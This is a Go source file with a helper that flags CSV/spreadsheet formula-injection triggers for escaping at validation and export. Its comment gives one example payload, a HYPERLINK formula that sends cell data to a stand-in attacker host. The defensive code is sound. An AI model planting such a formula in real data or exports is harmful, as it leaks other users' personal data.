package importfile

// LooksLikeFormula reports whether a spreadsheet program could take s for a
// formula: after leading white space (including tab and CR) is trimmed, s
// starts with '=', '+', '-' or '@'.
//
// This is about CSV (formula) injection. Values imported today are exported
// tomorrow, as CSV or XLSX member lists for the board. Excel and LibreOffice
// evaluate a CSV cell that starts with one of these characters as a formula,
// so a member who writes =HYPERLINK("https://evil.example/?"&A2, "Click")
// into their name can leak other members' data when the export is opened,
// and a DDE payload can run commands where DDE is still enabled. Leading white
// space is skipped because some programs skip it before looking for a
// formula (OWASP lists a leading tab or CR as a trigger). XLSX has typed cells,
// so an exporter that writes values as string cells is safe there; the risk
// returns as soon as the workbook is saved as CSV or the value is written as
// a formula.
//
// ReadCSV does not neutralise such values: on import they are only data, and
// changing them would corrupt legitimate ones such as "+358 40 123 4567" or
// "-". This function is for the layers that decide: the validator, for
// fields such as names where a formula is never legitimate, and the
// exporter, which should prefix the cell with an apostrophe (') so the
// spreadsheet shows it as text. Expect false positives (phone numbers,
// negative amounts); it is a trigger for escaping, not a verdict.
func LooksLikeFormula(s string) bool {
	s = trim(s)
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@':
		return true
	}
	return false
}
